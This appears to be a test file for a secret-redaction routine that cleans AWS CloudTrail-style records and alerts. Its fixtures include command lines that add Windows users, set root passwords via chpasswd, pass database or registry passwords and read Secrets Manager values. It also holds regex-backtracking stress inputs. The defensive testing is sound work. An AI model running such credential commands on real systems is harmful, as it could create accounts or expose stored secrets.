  ["ecr:PutImage requestParameters.imageTag", "token-service-1"],
  ["health:Notice serviceEventDetails.errorCode", "AccessDenied"],
  ["config:PutConfigRule requestParameters.configRule.inputParameters", '{"maxAccessKeyAge":"90"}'],
  ["iam:CreateUser requestParameters.tags", [{ key: "password-rotation", value: "monthly" }]],
  [
    "appsync:CreateDataSource requestParameters.description",
    "Rotates passwords and tokens; codes are in the wiki: ask",
  ],
  ["account:X requestParameters.countryCode", "DE"],
];

test.each(READABLE_SHAPES)("%s stays readable", (shape, value) => {
  const given = recordOf(shape, value);
  expect(redact(given)).toEqual(given);
});

test.each([
  "User: arn:aws:iam::111122223333:user/alice is not authorized to perform: secretsmanager:GetSecretValue on resource: arn:aws:secretsmanager:us-east-1:111122223333:secret:db-AbCdEf because no identity-based policy allows the secretsmanager:GetSecretValue action",
  "The security token included in the request is invalid",
  "Secrets Manager can't find the specified secret.",
  "MultiFactorAuthentication failed with invalid MFA one time pass code.",
  "Password should have at least one uppercase letter",
  "An error occurred (InvalidClientTokenId) when calling the GetCallerIdentity operation: status code: 403, request id: 7a62c49f",
  "1 validation error detected: Value '' at 'keyName' failed to satisfy constraint",
  "Failed authentication",
  "aws-cli/2.31 md/awscrt#0.27 cfg/retry-mode#standard md/command#secretsmanager.get-secret-value",
  "aws secretsmanager get-secret-value --secret-id prod/db --query SecretString",
  "s3://bucket/AWSLogs/111122223333/CloudTrail/us-east-1/2026/11/20/x.json.gz",
  "https://example.com/login?next=/home&lang=en",
  "postgres://db.example.com:5432/site",
  "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
  "mkdir -p /opt/app && docker run -u 1000:1000 -p 8080:80 -d nginx",
  "mysql -u root --protocol=tcp shop; net user helper /delete; docker login registry.example.com",
  "AKIAIOSFODNN7EXAMPLE of alice, key 1f3870be274f6c49b3e31a0c6728957f12345678",
])("the text stays: %s", (text) => {
  expect(redact({ errorMessage: text })).toEqual({ errorMessage: text });
});

const JWT = `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.${HUSH}_${HUSH}`;

/** Free texts, and what of them must still be read. */
const TEXTS: readonly (readonly [what: string, text: string, stays?: string])[] = [
  ["user and password in a URL", `see postgres://app:${HUSH}@db.example.com/site`, "db.example.com/site"],
  ["a password with an at sign in a URL", `postgres://app:p@${HUSH}@db.example.com/site`, "db.example.com/site"],
  [
    "a signature in a URL",
    `https://b.s3.amazonaws.com/k?X-Amz-Expires=60&X-Amz-Signature=${HUSH}`,
    "b.s3.amazonaws.com/k",
  ],
  ["all values of a presigned URL", `https://b.s3.amazonaws.com/k?a=${HUSH}&X-Amz-Signature=1`, "b.s3.amazonaws.com/k"],
  ["a shared access signature", `https://x.blob.example.com/c?sv=2022&sig=${HUSH}`, "x.blob.example.com/c"],
  ["a secret value in a query", `https://example.com/x?lang=en&api_key=${HUSH}`, "lang=en"],
  ["a token behind the hash", `https://example.com/cb#access_token=${HUSH}&state=1`, "state=1"],
  ["a webhook", `https://hooks.slack.com/services/T0/B0/${HUSH}`, "hooks.slack.com"],
  ["a webhook of Teams", `https://x.webhook.office.com/webhookb2/${HUSH}@t/IncomingWebhook/${HUSH}/1`, "office.com"],
  ["a form", `grant_type=client_credentials&client_secret=${HUSH}&scope=all`, "scope=all"],
  ["an Authorization header", `curl -H "Authorization: Basic ${HUSH}" example.com`, "example.com"],
  ["a bearer token", `sent bearer ${HUSH}${HUSH} to example.com`, "example.com"],
  ["a database's client", `mysqldump -u root -p${HUSH} shop`, "-u root"],
  ["a client that wants a space", `sshpass -p '${HUSH}' ssh ops@192.0.2.7`, "ssh ops@192.0.2.7"],
  ["a registry", `docker login -u ci -p ${HUSH} registry.example.com`, "registry.example.com"],
  ["a web client", `curl -s -u deploy:${HUSH} https://example.com/x`, "deploy:"],
  ["a cache's client", `redis-cli -h cache -a ${HUSH} keys`, "keys"],
  ["a directory's client", `ldapsearch -D cn=admin -w ${HUSH} -b dc=x`, "-b dc=x"],
  ["a Windows user", `net user helper ${HUSH} /add`, "/add"],
  ["a Windows text", `ConvertTo-SecureString '${HUSH}' -AsPlainText -Force`, "-AsPlainText"],
  ["a profile", `aws configure set aws_secret_access_key ${HUSH} --profile ops`, "--profile ops"],
  ["a netrc", `machine example.com login ops password ${HUSH}`, "login ops"],
  ["a password set from a pipe", `echo "root:${HUSH}" | chpasswd`, "root:"],
  ["a password read from a pipe", `echo '${HUSH}' | sudo passwd --stdin root`, "--stdin root"],
  ["a token of Vault", `vault login hvs.${HUSH.repeat(3)}`, "vault login"],
  ["a cookie", `Cookie: session=${HUSH}; theme=${HUSH}`],
  ["a signed request", `authorization: AWS4-HMAC-SHA256 Credential=AKIA/x, Signature=${HUSH}`],
  [
    "an .env file",
    `# db\nDB_HOST=db.example.com\nDB_PASSWORD=${HUSH}\nexport NPM_TOKEN='${HUSH}'\n`,
    "DB_HOST=db.example.com",
  ],
  ["words of a name in any order", `TOKEN_GITHUB=${HUSH}`],
  ["a connection string", `Server=db.example.com;User Id=app;Password=${HUSH};Encrypt=true`, "Encrypt=true"],
  ["an account key", `AccountName=x;AccountKey=${HUSH}==;EndpointSuffix=core`, "EndpointSuffix=core"],
  [
    "a credentials file",
    `[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = ${HUSH}`,
    "AKIAIOSFODNN7EXAMPLE",
  ],
  ["a key beside its id", `AKIAIOSFODNN7EXAMPLE,${HUSH}/K7MDENG+bPxRfiCYEXAMPLEKEY0abcd`, "AKIAIOSFODNN7EXAMPLE"],
  ["a session token", `x IQoJb3JpZ2luX2VjEJr${HUSH}//////////wEaCXVzLWVhc3QtMSJHMEUC end`, "end"],
  ["a JSON Web Token", `got ${JWT} from example.com`, "example.com"],
  ["a private key", `key:\n-----BEGIN RSA PRIVATE KEY-----\nMIIE${HUSH}\n-----END RSA PRIVATE KEY-----\nend`, "end"],
  ["a private key that is cut", `-----BEGIN PRIVATE KEY-----\nMIIE${HUSH}`],
  [
    "two private keys",
    `-----BEGIN EC PRIVATE KEY-----\n${HUSH}\n-----END EC PRIVATE KEY-----\n-----BEGIN PRIVATE KEY-----\n${HUSH}`,
  ],
  ["a token of GitHub", `git clone https://ghp_${HUSH.repeat(5)}@example.com/x`, "example.com/x"],
  ["JSON", JSON.stringify({ user: "alice", password: HUSH }), "alice"],
  ["JSON in JSON", JSON.stringify({ inner: JSON.stringify({ apiKey: HUSH, user: "alice" }) }), "alice"],
  ["JSON that is cut", `{"user":"alice","password":"${HUSH}`, "alice"],
  ["JSON with escapes that is cut", String.raw`{"inner":"{\"user\":\"alice\",\"password\":\"${HUSH}\",\"x`, "alice"],
  ["several JSON documents", `{"password":"${HUSH}"}\n{"user":"alice"}`, "alice"],
  ["JSON as it stands in a URL", encodeURIComponent(JSON.stringify({ password: HUSH, user: "alice" })), "alice"],
  ["YAML", `user: alice\npassword: correct horse ${HUSH}\nport: 22\n`, "port: 22"],
  ["a block in YAML", `user: alice\nprivate_key: |\n  ${HUSH}\n  ${HUSH}\nport: 22\n`, "port: 22"],
  ["a list in YAML", `passwords:\n  - ${HUSH}\n  - ${HUSH}\nport: 22\n`, "port: 22"],
  ["an environment in YAML", `image: x\nenvironment:\n  A: ${HUSH}\n  B: ${HUSH}\nports: 80\n`, "ports: 80"],
  ["an environment as a list in YAML", `environment:\n- A=${HUSH}\nports: 80\n`, "ports: 80"],
  ["a pair in YAML", `- name: DB_PASSWORD\n  value: ${HUSH}\n- name: PORT\n  value: 80\n`, "value: 80"],
  ["an option of a command", `mysql -u app --password ${HUSH} -h db.example.com`, "-h db.example.com"],
  ["an option with a sign", `mysql --password='${HUSH} x' -h db.example.com`, "-h db.example.com"],
  ["an option in a quoted command", `sh -c "login --token ${HUSH} now"`, "now"],
  ["XML", `<user>alice</user><password kind="x">${HUSH}</password>`, "alice"],
  ["SQL that makes a user", `CREATE USER app IDENTIFIED BY '${HUSH}'`, "app"],
  ["a value that was refused", `1 validation error: Value '${HUSH}' at 'masterUserPassword' failed`, "failed"],
  ["a header with a scheme of its own", `send Authorization: Negotiate ${HUSH}`],
  ["a quote within JSON that is cut", String.raw`{"user":"alice","password":"a\"${HUSH}","x`, "alice"],
  ["only the value of a secret name", `name: DB_PASSWORD\nvalue: ${HUSH}\nname: PORT\nvalue: 80\n`, "value: 80"],
  ["one value of a pair", `token name: api_token value: ${HUSH} value: 80`, "value: 80"],
  ["an environment of pairs in YAML", `environment:\n  - name: DB_URL\n    value: ${HUSH}\n`, "name: DB_URL"],
  ["a name of two words", `Secret key: ${HUSH}`],
];

test.each(TEXTS)("%s is not shown in a text", (_what, text, stays = "") => {
  const clean = shown({ description: text });
  expect(clean).not.toContain(HUSH);
  expect(clean).toContain(REDACTED);
  expect(decodeURIComponent(clean)).toContain(stays);
});

test("of an environment the names stay, of a list of variables too", () => {
  expect(redact({ environment: { variables: { DB_URL: "x", NAME: "y", ON: true } } })).toEqual({
    environment: { variables: { DB_URL: REDACTED, NAME: REDACTED, ON: true } },
  });
  expect(redact({ environment: [{ name: "DB_URL", value: "x" }, { name: "EMPTY" }] })).toEqual({
    environment: [{ name: "DB_URL", value: REDACTED }, { name: "EMPTY" }],
  });
});

test("of an environment all values go, also those that are no secret elsewhere", () => {
  const arn = "arn:aws:secretsmanager:us-east-1:111122223333:secret:d";
  expect(redact({ environment: { A: "enabled", B: arn, C: 5 }, dbPassword: arn, httpToken: 5 })).toEqual({
    environment: { A: REDACTED, B: REDACTED, C: REDACTED },
    dbPassword: arn,
    httpToken: 5,
  });
});

test("the names stay in an environment that is spelled out as JSON", () => {
  expect(redact({ variables: '{"DB_URL":"x"}' })).toEqual({ variables: `{"DB_URL":"${REDACTED}"}` });
});

test("names that people make up are secret wherever the word stands", () => {
  expect(redact({ PASSWORD_PROD: "x", "x-token-old-api": "y", passwordPolicy: "z", password_rotation: "w" })).toEqual({
    ...{ PASSWORD_PROD: REDACTED, "x-token-old-api": REDACTED },
    ...{ passwordPolicy: "z", password_rotation: "w" },
  });
});

test("of several commands not even the number stays", () => {
  expect(redact({ parameters: { commands: ["id", "env"] } })).toEqual({ parameters: { commands: REDACTED } });
});

test("of credentials all goes but what they are known by", () => {
  const credentials = { accessKeyId: "ASIAX", secretAccessKey: "s", sessionToken: "t", other: "o", expiration: "2026" };
  expect(redact({ credentials })).toEqual({
    credentials: { ...credentials, secretAccessKey: REDACTED, sessionToken: REDACTED, other: REDACTED },
  });
});

test("what is redacted is redacted once, and nothing is changed in place", () => {
  const given = { environment: { A: "a" }, text: `password=${HUSH} url=https://a:${HUSH}@b/` };
  const before = structuredClone(given);
  const once = redact(given);
  expect(given).toEqual(before);
  expect(redact(once)).toEqual(once);
});

test("a value nested deeper than any record is not shown", () => {
  let deep: unknown = HUSH;
  for (let i = 0; i < 5_000; i++) deep = i % 2 ? [deep] : { a: deep };
  expect(shown(deep)).not.toContain(HUSH);
  expect(redact({ text: `${"[".repeat(100_000)}"${HUSH}"${"]".repeat(100_000)}` })).toBeDefined();
});

/** Each a way to make an expression try over and over. */
const HOSTILE = [
  ..."a .-/:=?&#'\"<\\{[%$_1\n\t",
  ...[
    "a=",
    "a:",
    "a: ",
    "a ",
    "a.a-",
    "://",
    "://a:",
    "?a",
    "?a=",
    "&a=b",
    "#",
    "<a",
    "<a ",
    "<a>b",
    "</",
    "--a ",
    "--a '",
  ],
  ...[
    "name=",
    "value=",
    "password=",
    "password: |\n",
    "password:\n ",
    'password="',
    "password='\n",
    "'password '",
    "by '",
    "Value '",
  ],
  ...[
    "environment:\n",
    "environment:\n  a: ",
    "name: token\n",
    "secret key ",
    "-eyJaaaaaaaa",
    "a:\n ",
    "authorization: ",
    "bearer ",
    "basic a",
  ],
  ...["-----BEGIN PRIVATE KEY-----", "-----END ", "eyJaaaaaaaa.", "eyJ", "IQoJb3JpZ2lu", "AKIAIOSFODNN7EXAMPLE", "- "],
  ...["//hooks.slack.com/services/", '\\"', "[[", '{"a":', '"', "%7B", "%22", "a\n", " \n", "aB3/".repeat(10), "'="],
  ...[
    "docker login ",
    "mysql -p",
    "-u a",
    "-u a: -U b%",
    "a: ",
    "redis-cli ",
    "net user ",
    "login a password ",
    "echo ",
    "ConvertTo-SecureString ",
    "token-a",
  ],
];

/** What takes time in the square of its length would take minutes here. */
const LENGTH = process.env.THOROUGH ? 1_000_000 : 100_000;
const MAX_TIME = LENGTH / 50;

test.each(HOSTILE.map((piece) => [JSON.stringify(piece), piece]))("%s over and over is read once", (_name, piece) => {
  const long = piece.repeat(Math.ceil(LENGTH / piece.length));
  // Some steps are taken only where a word shows that they may be worth it.
  for (const text of [
    long,
    `PRIVATE KEY </ ? hook bearer ' -- -p -a -w -u % chpasswd --stdin x=1 AKIAIOSFODNN7EXAMPLE\n${long}`,
    `{"a": "${long}`,
  ]) {
    expect(cpuTimeOf(() => redact({ text }))).toBeLessThan(MAX_TIME);
  }
  expect(cpuTimeOf(() => redact({ [long]: "x", tags: [{ key: long, value: "x" }] }))).toBeLessThan(MAX_TIME);
});

test.each(["echo", "echo -n", "echo a", "ops:a", "net user a", "docker login", "mysql", "-u"])(
  "spaces without end behind %s are read once",
  (command) => {
    const text = `-p -u net login chpasswd --stdin ${command}${" ".repeat(LENGTH)}`;
    expect(cpuTimeOf(() => redact({ text }))).toBeLessThan(MAX_TIME);
  },
);

test.each([
  ["long words", `${"echo ".repeat(90)}| passwd --stdin`],
  ["short words", "net"],
])("a list of %s is read word by word, and each with few words before it", (_, word) => {
  const list = Array.from({ length: Math.ceil((LENGTH * 8) / (word.length + 3)) }, () => word);
  expect(cpuTimeOf(() => redact({ command: list }))).toBeLessThan(MAX_TIME / 2);
});

test("a million characters of all that is hostile are read once", () => {
  const text = HOSTILE.map((piece) => piece.repeat(50)).join("");
  expect(cpuTimeOf(() => redact({ text: text.repeat(Math.ceil(1_000_000 / text.length)) }))).toBeLessThan(20_000);
});

test("targets are names still, and never what is redacted", () => {
  const call = (eventSource: string, eventName: string, requestParameters: unknown) =>
    record({ eventSource: `${eventSource}.amazonaws.com`, eventName, requestParameters });
  expect(targetOf(call("secretsmanager", "GetSecretValue", { secretId: "prod/db-password" })).target).toBe(
    "prod/db-password",
  );
  expect(targetOf(call("ssm", "PutParameter", { value: HUSH, name: "/prod/token" })).target).toBe("/prod/token");
  expect(targetOf(call("iam", "UpdateLoginProfile", { password: HUSH, userName: "bob" })).target).toBe("bob");
  expect(viewOf(call("ssm", "PutParameter", { name: "/prod/x", value: HUSH })).facts.detail).toBeUndefined();
  expect(viewOf(call("rdsdata", "ExecuteStatement", { sql: HUSH, resourceArn: "db" })).facts.target).toBe("db");
});

test("no alert of a call holds its secrets: neither mail, nor SMS, nor JSON", async () => {
  const shapes = SECRET_SHAPES.filter(([, value]) => typeof value !== "number");
  const records = shapes.map(([shape, value = HUSH]) => record(recordOf(shape, value)));
  const texts = TEXTS.map(([, text]) => record({ requestParameters: { description: text }, errorMessage: text }));
  for (const one of sampled(sampled([...records, ...texts]))) {
    const { alerts, texts: sms } = await alertsOf([one], { rules: [everyCall()] });
    expect(alerts.length).toBeGreaterThan(0);
    expect(JSON.stringify([alerts, sms])).not.toContain(HUSH);
  }
});
